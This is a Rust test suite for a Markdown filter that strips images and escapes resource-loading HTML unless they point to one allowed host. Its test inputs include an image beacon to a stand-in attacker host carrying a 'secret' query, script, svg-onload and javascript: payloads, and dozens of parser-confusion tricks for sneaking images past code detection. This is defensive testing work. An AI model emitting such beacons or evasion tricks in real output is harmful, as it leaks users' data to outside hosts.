use super::*;

const HOSTS: [&str; 1] = ["img.school.example"];

fn hosts() -> Vec<String> {
    HOSTS.map(str::to_owned).to_vec()
}

fn filtered(text: &str) -> String {
    Filter::whole(text, &hosts())
}

/// The same, however it is cut.
fn in_pieces(text: &str, size: usize) -> String {
    let mut filter = Filter::new(&hosts());
    let letters: Vec<char> = text.chars().collect();
    let mut out = String::new();
    for piece in letters.chunks(size) {
        out.push_str(&filter.push(&piece.iter().collect::<String>()));
    }
    out.push_str(&filter.finish());
    out
}

/// As a reader of Markdown shows it: what would be loaded.
fn loaded(text: &str) -> Vec<String> {
    use pulldown_cmark::{Event, Options, Parser, Tag};
    let mut loaded = Vec::new();
    for event in Parser::new_ext(text, Options::all()) {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => loaded.push(dest_url.to_string()),
            Event::Html(html) | Event::InlineHtml(html) => {
                let html = html.to_ascii_lowercase();
                for sign in [
                    "<img", "<iframe", "<script", "<style", "<svg", "<link", "<object", "<embed", "<video", "<audio", "<source", "<base",
                    "<meta", "<form",
                ] {
                    if html.contains(sign) {
                        loaded.push(html.clone());
                    }
                }
                if html.contains("style=") || html.contains("src=") {
                    loaded.push(html);
                }
            }
            _ => {}
        }
    }
    loaded.retain(|target| !target.starts_with("https://img.school.example/"));
    loaded
}

#[test]
fn images_lead_to_listed_hosts_or_go() {
    for (text, expected) in [
        ("![a](https://img.school.example/a.png)", "![a](https://img.school.example/a.png)"),
        ("![a](https://img.school.example/a.png \"title\")", "![a](https://img.school.example/a.png \"title\")"),
        ("![a](https://evil.example/a.png?q=secret)", "[image removed: evil.example]"),
        ("![a](http://img.school.example/a.png)", "[image removed: img.school.example]"),
        ("![a](https://img.school.example.evil.example/)", "[image removed: img.school.example.evil.example]"),
        ("![a](https://img.school.example@evil.example/)", "[image removed: evil.example]"),
        ("![a](https://img.school.example:8443/)", "[image removed: img.school.example]"),
        ("![a](/relative.png)", "[image removed]"),
        ("![a](data:image/png;base64,AAAA)", "[image removed]"),
        ("![a][ref]\n\n[ref]: https://evil.example/a.png", "[image removed]\n\n[ref]: https://evil.example/a.png"),
        ("![ref]\n\n[ref]: https://evil.example/a.png", "[image removed]\n\n[ref]: https://evil.example/a.png"),
        ("Good![1] and more", "Good\\![1] and more"),
        ("[![a](https://evil.example/a)](https://school.example)", "[[image removed: evil.example]](https://school.example)"),
        ("!![a](https://evil.example/a)(https://evil.example/b)", "!\\[image removed: evil.example](https://evil.example/b)"),
        ("Hi! [a](https://school.example)", "Hi! [a](https://school.example)"),
        ("done!", "done!"),
    ] {
        assert_eq!(filtered(text), expected, "{text}");
    }
}

#[test]
fn tags_that_load_are_text_and_others_stay() {
    for (text, expected) in [
        ("<img src=https://evil.example/a>", "&lt;img src=https://evil.example/a>"),
        ("<IMG/src='//evil.example/a'>", "&lt;IMG/src='//evil.example/a'>"),
        ("<script>x</script>", "&lt;script>x&lt;/script>"),
        ("<svg onload=x>", "&lt;svg onload=x>"),
        ("<b>bold</b><br/>", "<b>bold</b><br/>"),
        ("<a href=\"https://school.example\">x</a>", "<a href=\"https://school.example\">x</a>"),
        ("<a href=\"javascript:x\">x</a>", "&lt;a href=\"javascript:x\">x</a>"),
        ("<div style=\"background:url(//evil.example)\">", "&lt;div style=\"background:url(//evil.example)\">"),
        ("a < b and c <d", "a < b and c &lt;d"),
        ("<https://school.example/a?b=c>", "<https://school.example/a?b=c>"),
        ("<!-- a -->", "&lt;!-- a -->"),
        ("x < y and a<b and 3<4 > 2 `<img>` z", "x < y and a&lt;b and 3<4 > 2 `<img>` z"),
        ("if i<n then `![a](https://evil.example/a)` else", "if i&lt;n then `![a](https://evil.example/a)` else"),
    ] {
        assert_eq!(filtered(text), expected, "{text}");
    }
}

#[test]
fn code_stays_as_it_is() {
    for text in [
        "Use `<img src=x>` so.",
        "```html\n<img src=\"https://evil.example\">\n![a](https://evil.example/a)\n```\nafter",
        "~~~\n![a](https://evil.example/a)\n~~~\n",
        "1. so:\n\n   ```\n   <script>\n   ```\n",
        "``a `![b](c)` d``.",
    ] {
        assert_eq!(filtered(text), text, "{text}");
    }
}

/// Texts in which readers differ about what is code, or in which it ends in an unusual way.
const TRICKS: [&str; 37] = [
    "<div>\n```\n\n![x](https://evil.example/a)\n",
    "<b>hello\n```\ncode\n\n```\n![x](https://evil.example/a)\n",
    "<!--\n```\n-->\n![x](https://evil.example/a)\n",
    "- a\n  ```\n  code\n![x](https://evil.example/a)\n",
    "> ```\n![x](https://evil.example/a)\n",
    "   ```\ncode\n```\n![x](https://evil.example/a)\n",
    "para\n    ```\n    ![x](https://evil.example/a)\n",
    "`foo\nbar` ![x](https://evil.example/a) `baz`",
    "<a title=\"`\">![x](https://evil.example/a)`",
    "| a | b | c |\n|---|---|---|\n| ` | ![x](https://evil.example/a) | ` |\n",
    "$`$ ![x](https://evil.example/a) $`$",
    "```a`b\n![x](https://evil.example/a)\n```",
    "![a ![b](https://evil.example/b)](https://evil.example/a)",
    "![a\\](https://evil.example/a)](https://evil.example/b)",
    "![a `]` b](https://evil.example/a)",
    "![a](<https://evil.example/a b>)",
    "!\\[a](https://evil.example/a)",
    "\\\\![a](https://evil.example/a)",
    "[image removed]: https://evil.example/a\n\n!![a](https://evil.example/b)",
    "```\n![a](https://evil.example/a)\n``\n![b](https://evil.example/b)\n```\n![c](https://evil.example/c)",
    "~~~\n```\n~~~\n![c](https://evil.example/c)",
    "<IMAGE SRC=https://evil.example/a>",
    "<img\nsrc=https://evil.example/a>",
    "<\u{0}img src=https://evil.example/a>",
    "``` \r![a](https://evil.example/a)\r```\r![b](https://evil.example/b)",
    "- ```\n  x\n\n![b](https://evil.example/b)",
    "\t```\n![b](https://evil.example/b)\n\t```\n![c](https://evil.example/c)",
    "para\n    ```\n\\![1] ![x][y]\n\n[1]: https://evil.example/a\n",
    "\\<b title=\"![a](https://evil.example/a)\">",
    "---\n~~~\n\n---\n![a](https://evil.example/a)\n",
    "+++\na\n```\n+++\n![a](https://evil.example/a)\n",
    "<b x>\\![1]\n\n[1]: https://evil.example/a\n",
    "[a]: /u '`'\n![y](https://evil.example/a) `",
    "a<b `\n![y](https://evil.example/a) `",
    "a<b x=\"`\"> ![y](https://evil.example/a) `",
    "<b onx=`>![y](https://evil.example/a)`",
    "a \\<b c=\"`\">![y](https://evil.example/a)` <i> `",
];

#[test]
fn nothing_is_loaded_whatever_a_reader_takes_for_code() {
    for text in TRICKS {
        let out = filtered(text);
        assert_eq!(loaded(&out), Vec::<String>::new(), "{text:?} became {out:?}");
    }
}

#[test]
fn it_is_the_same_however_it_is_cut() {
    let plain = [
        "Use `<img src=x>` so, ![a](https://evil.example/a) and ![b](https://img.school.example/b).",
        "```html\n<img>\n```\n<img>\n<b>x</b> a < b",
        "1. one\n2. two\n\n> quote\n\n- *a* **b** [c](https://school.example)\n",
        "x < y and a<b and 3<4 > 2 `<img>` z, a<b `c` <b>d</b> `e`",
    ];
    for text in plain.iter().chain(&TRICKS) {
        let text = text.replace('\r', "\n");
        for size in [1, 2, 3, 7] {
            assert_eq!(in_pieces(&text, size), filtered(&text), "{text:?} by {size}");
        }
    }
}

#[test]
fn what_stays_undecided_is_escaped_and_no_more_than_2048_characters_are_held() {
    let mut filter = Filter::new(&[]);
    let mut out = String::new();
    out.push_str(&filter.push("![a](https://evil.example/"));
    for _ in 0..600 {
        out.push_str(&filter.push("aaaaaaaaaa"));
        assert!(filter.held.len() <= HELD + 10);
    }
    out.push_str(&filter.push(")"));
    out.push_str(&filter.finish());
    assert!(out.starts_with("\\![a](https://evil.example/aaa"), "{}", &out[..40]);
    assert_eq!(loaded(&out), Vec::<String>::new());
    assert_eq!(Filter::whole("![a", &[]), "\\![a");
    assert_eq!(Filter::whole("<im", &[]), "&lt;im");
}

#[test]
fn plain_text_is_not_held_back() {
    let mut filter = Filter::new(&[]);
    assert_eq!(filter.push("Hello, "), "Hello, ");
    assert_eq!(filter.push("world. "), "world. ");
    assert_eq!(filter.push("It is 3"), "It is 3");
    assert_eq!(filter.push("!"), "");
    assert_eq!(filter.push(" Yes"), "! Yes");
}

#[test]
fn hosts_of_links_are_listed_once_and_not_those_in_code() {
    let mut filter = Filter::new(&[]);
    filter.push("See [a](https://One.example/a), https://two.example:8080/x. and `https://code.example`, <https://one.example/b> [c](//three.example)\n");
    filter.finish();
    assert_eq!(super::external_hosts(&filter.prose()), ["one.example", "two.example", "three.example"]);
}

#[test]
fn hosts_are_read_as_a_browser_reads_them() {
    let text = "[e](&#104;ttps://ent.example) [n](http:\\\\turned.example) [f](ftp://ftp.example/) www.bare.example, https://[2001:db8::1]/x [r](/here)";
    assert_eq!(super::external_hosts(text), ["ent.example", "turned.example", "ftp.example", "www.bare.example", "[2001:db8::1]"]);
}

#[test]
fn code_between_ticks_may_end_the_text_and_a_line_end_of_two_characters_is_one() {
    for text in ["Use `ls -la`", "`![a](https://evil.example/x)`", "``a ` b``"] {
        for size in [1, 3, 100] {
            let mut filter = Filter::new(&[]);
            let letters: Vec<char> = text.chars().collect();
            let mut out: String = letters.chunks(size).map(|part| filter.push(&part.iter().collect::<String>())).collect();
            out.push_str(&filter.finish());
            assert_eq!(out, text);
        }
    }
    let mut filter = Filter::new(&[]);
    assert_eq!([filter.push("c\r"), filter.push("\nd"), filter.push("\re"), filter.finish()].concat(), "c\nd\ne");
}
